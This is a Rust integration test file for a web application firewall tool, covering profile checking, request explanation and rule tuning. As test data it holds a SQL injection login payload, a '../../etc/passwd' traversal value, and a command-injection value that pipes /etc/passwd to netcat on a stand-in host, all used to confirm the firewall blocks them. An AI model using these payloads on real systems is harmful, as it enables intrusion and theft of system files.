//! `check`, `explain` and `tune`.

use std::fs;
use std::process::{Command, Output};

use serde_json::json;
use testbed::PATIENCE;
use testbed::client::Request;
use testbed::wait::wait_until;

use crate::envoy::Edge;
use crate::house::Service;

fn run(args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_portcullis-waf")).args(args).output().unwrap()
}

fn text(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

/// What `check` says of one profile.
fn checked(profile: &str) -> (Option<i32>, String) {
    let dir = tempfile::tempdir().unwrap();
    fs::write(dir.path().join("p.yaml"), profile).unwrap();
    fs::write(
        dir.path().join("own.conf"),
        "SecRule ARGS:a \"@streq b\" \"id:10001,phase:1,deny\"\nSecRuleEngine Off\n",
    )
    .unwrap();
    let output = run(&["check", dir.path().to_str().unwrap()]);
    (output.status.code(), text(&output.stdout) + &text(&output.stderr))
}

#[test]
fn profiles_are_checked_with_file_line_and_directive() {
    let (code, said) = checked("name: shop\nextends: baseline\ncoreRules: {paranoia: 2}\n");
    assert!(code == Some(0) && said.contains("ok: shop (") && said.contains("ok: baseline ("), "{said}");
    for (profile, wanted) in [
        ("name: shop\nmode: blok\n", "p.yaml:2:7: mode: unknown value `blok`, allowed: off, detect, block"),
        ("name: Shop\n", "p.yaml:1:1: name: `Shop` is no name"),
        ("name: a\ncoreRules: {version: 9.9.9}\n", "coreRules.version: `9.9.9` is not inside, allowed: 4.25.0"),
        ("name: a\ndirectives: |\n  # fine\n  SecRule ARGS \"@rx (\" \"id:1\"\n", "p.yaml:4: "),
        ("name: a\nfiles: [none.conf]\n", "none.conf"),
        ("name: a\nfiles: [../../etc/passwd]\n", "`../../etc/passwd` is not beside the profile"),
        ("name: a\nexclusions: [{rules: [942100], parameters: ['ARGS:x\"']}]\n", "exclusions[0].parameters: "),
    ] {
        let (code, said) = checked(profile);
        assert!(code == Some(1) && said.contains(wanted), "{profile}: {said}");
    }
}

#[test]
fn who_extends_a_profile_may_tighten_it_and_loosen_it_within_guardrails() {
    let extends = |rest: &str| checked(&format!("name: team\nextends: baseline\n{rest}\n"));
    for fine in [
        "mode: detect",
        "coreRules: {paranoia: 3, inboundThreshold: 3}",
        "requestBody: {limit: 1000000}",
        "exclusions: [{rules: [942100], parameters: ['ARGS:comment'], path: /blog}]",
        "directives: |\n  SecRule ARGS:a \"@rx ^x\" \"id:10001,phase:1,deny,status:400\"",
    ] {
        let (code, said) = extends(fine);
        assert_eq!(code, Some(0), "{fine}: {said}");
    }
    for (wrong, wanted) in [
        ("mode: off", "p.yaml:3:1: mode: is weaker than that of baseline"),
        ("coreRules: {inboundThreshold: 50}", "coreRules.inboundThreshold: is 50, and baseline has 5"),
        ("coreRules: {version: none}", "coreRules.version: is none, and baseline has 4.25.0"),
        ("requestBody: {inspect: false}", "requestBody.inspect: is false"),
        ("requestBody: {overLimit: pass}", "requestBody.overLimit: is weaker"),
        ("requestBody: {contentTypes: [text/plain]}", "lacks application/json"),
        ("onFailure: open", "onFailure: is open"),
        ("exclusions: [{rules: [942100]}]", "exclusions[0].rules: 942100 is not within guardrails.excludeRules"),
        (
            "exclusions: [{rules: [942100], parameters: [ARGS]}]",
            "exclusions[0].parameters: `ARGS` is not one parameter",
        ),
        ("exclusions: [{rules: [942100], parameters: ['ARGS:/.*/']}]", "`ARGS:/.*/` is not one parameter"),
        (
            "exclusions: [{rules: [920100], parameters: ['ARGS:x']}]",
            "920100 is not within guardrails.excludeParameters",
        ),
        ("directives: |\n\n  SecRuleEngine Off", "p.yaml:5: `SecRuleEngine` is not allowed"),
        ("files: [own.conf]", "own.conf:2: `SecRuleEngine` is not allowed"),
        ("before: |\n  SecRuleEngine Off", "before: belongs to profiles that extend no other"),
        ("guardrails: {modes: [off]}", "guardrails: belong to profiles that extend no other"),
    ] {
        let (code, said) = extends(wrong);
        assert!(code == Some(1) && said.contains(wanted), "{wrong}: {said}");
    }
}

#[test]
fn who_has_to_extend_a_profile_cannot_take_the_place_of_another() {
    let dir = tempfile::tempdir().unwrap();
    fs::write(dir.path().join("p.yaml"), "name: strict\nextends: baseline\nmode: detect\n").unwrap();
    let path = dir.path().to_str().unwrap();
    let forced = run(&["check", "--extends", "baseline", path]);
    let said = text(&forced.stderr);
    assert!(forced.status.code() == Some(1) && said.contains("p.yaml:1:1: name: `strict` is inside already"), "{said}");
    assert!(run(&["check", path]).status.success());
}

#[test]
fn a_request_is_explained() {
    let dir = tempfile::tempdir().unwrap();
    let request = dir.path().join("request.txt");
    let head = "Host: shop.example\nUser-Agent: tests\nAccept: */*\n";
    let explain = |text: &str| {
        fs::write(&request, text).unwrap();
        run(&["explain", "--request", request.to_str().unwrap()])
    };
    let attack = explain(&format!(
        "POST /login HTTP/1.1\n{head}Content-Type: application/x-www-form-urlencoded\nContent-Length: 25\n\n\
         user=1' OR '1'='1'-- -&a=b"
    ));
    let said = text(&attack.stdout);
    assert_eq!(attack.status.code(), Some(1), "{said}");
    assert!(
        said.contains("rule 942100 (CRITICAL, +5)") && said.contains("on ARGS:user = \"1' OR '1'='1'-- -\""),
        "{said}"
    );
    assert!(said.contains("refused: 403 (rule)"), "{said}");
    let fine = explain(&format!("GET /cats HTTP/1.1\n{head}\n"));
    assert!(fine.status.success() && text(&fine.stdout).contains("passed"), "{}", text(&fine.stdout));
}

#[tokio::test]
async fn a_false_match_is_tuned_away_and_attacks_stay_refused() {
    let profile = "name: own\nextends: baseline\n";
    let service = Service::start(&[("own.yaml", profile)], "defaultProfile: own\n").await;
    let route = json!({ "name": "httproute/shop/blog/rule/0" });
    let edge = Edge::with(&service, &json!({}), &route).await;
    let send = async |path: &str, form: &str| {
        let request = Request::post(&format!("http://shop.example{path}"), form.to_owned())
            .to(edge.address)
            .header("user-agent", "tests")
            .header("accept", "*/*")
            .header("content-type", "application/x-www-form-urlencoded");
        request.send().await.unwrap().status.as_u16()
    };
    // What somebody writes about a file, and attacks: with the same words beside it, and elsewhere.
    let (text, shell) =
        ("comment=the+command+;+cat+/var/log/messages+shows+it", "comment=x;+cat+/etc/passwd+|+nc+a.example+1");
    let both = format!("{text}&id=1%27%20OR%20%271%27%3D%271%27--%20-");
    let all = [("/blog/1/comments", text), ("/blog/2/comments", text), ("/blog/3", &both), ("/blog/3", shell)];
    for (path, form) in all {
        assert_eq!(send(path, form).await, 403, "{form}");
    }
    wait_until("all entries", PATIENCE, async || service.entries().len() == all.len()).await.unwrap();
    let output = run(&["tune", "--audit", service.audit_log().to_str().unwrap()]);
    let said =
        text_of_group(&text_of(&output), "rule 930120 on ARGS:comment, route httproute/shop/blog/rule/0: 4 requests");
    // Of the recorded attacks it frees none.
    assert!(said.contains("of these, 2 would no longer be refused\n"), "{said}");
    let proposed: String = said
        .lines()
        .skip_while(|line| *line != "  exclusions:")
        .take_while(|line| *line != "  as SecLang:")
        .map(|line| format!("{}\n", &line[2..]))
        .collect();
    service.rewrite("own.yaml", &format!("{profile}{proposed}"));
    wait_until("the exclusion", PATIENCE, async || send("/blog/1/comments", text).await == 200).await.unwrap();
    for (path, form) in [("/blog/3", both.as_str()), ("/blog/3", shell), ("/shop", text)] {
        assert_eq!(send(path, form).await, 403, "{path} {form}");
    }
}

fn text_of(output: &Output) -> String {
    text(&output.stdout) + &text(&output.stderr)
}

/// What is said of a group: up to an empty line.
fn text_of_group(said: &str, first: &str) -> String {
    let group = said.split("\n\n").find(|group| group.starts_with(first));
    group.unwrap_or_else(|| panic!("no {first:?}: {said}")).to_owned() + "\n"
}
